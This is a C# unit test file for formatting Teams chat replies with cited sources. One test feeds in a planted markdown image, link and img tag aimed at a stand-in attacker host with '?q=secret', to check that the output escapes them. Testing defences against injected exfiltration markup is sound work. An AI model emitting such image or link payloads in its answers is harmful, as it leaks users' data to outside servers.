using Lode.Chat;
using Lode.Teams;

namespace Lode.Tests.Teams;

/// <summary>The message activity a Teams question is answered with.</summary>
public sealed class TeamsReplyTests
{
    private static Completed Answer(string text, params Citation[] citations) =>
        new(text, citations, new ChatUsage(0, 0), AnswerMode.Generated, "m", "stop");

    [Fact]
    public void The_answer_is_followed_by_its_cited_sources_one_per_line_with_their_numbers()
    {
        var reply = TeamsReply.ForAnswer(Answer("Leave is 27 days [1]; carry-over is in the handbook [3].",
            new Citation(1, "docs", "hr/leave_policy.md", 1, 1, "…"),
            new Citation(3, "docs", "manuals/handbook.pdf", 7, 8, "…")));

        Assert.Equal("message", reply.Type);
        Assert.Equal("""
            Leave is 27 days [1]; carry-over is in the handbook [3].

            **Sources**

            [1] `docs/hr/leave_policy.md`, p. 1

            [3] `docs/manuals/handbook.pdf`, pp. 7-8
            """.ReplaceLineEndings("\n"), reply.Text);
    }

    [Fact]
    public void An_answer_without_citations_has_no_sources_section() =>
        Assert.Equal(ChatService.NoSourcesAnswer, TeamsReply.ForAnswer(Answer(ChatService.NoSourcesAnswer)).Text);

    [Fact]
    public void Images_links_and_HTML_planted_in_an_answer_are_shown_as_text_not_rendered()
    {
        var text = TeamsReply.ForAnswer(Answer(
            "Done [1]. ![logo](https://evil.example/p?q=secret) [click](https://evil.example) <img src=\"https://evil.example/x\">\n[1]: https://evil.example")).Text;

        Assert.DoesNotContain("![", text);
        Assert.DoesNotContain("](", text);
        Assert.DoesNotContain("<img", text);
        Assert.DoesNotContain("\n[1]:", text);
        Assert.Contains("&lt;img src=\"https://evil.example/x\"&gt;", text);
        Assert.StartsWith("Done [1].", text);
    }

    [Fact]
    public void A_user_without_access_is_told_their_account_id_for_the_administrator()
    {
        var text = TeamsReply.NoAccess("d6c1bd53-9d04-4e0d-a2e0-1c1bdfb1c9a0").Text;

        Assert.Contains("no access", text);
        Assert.Contains("`d6c1bd53-9d04-4e0d-a2e0-1c1bdfb1c9a0`", text);
    }
}
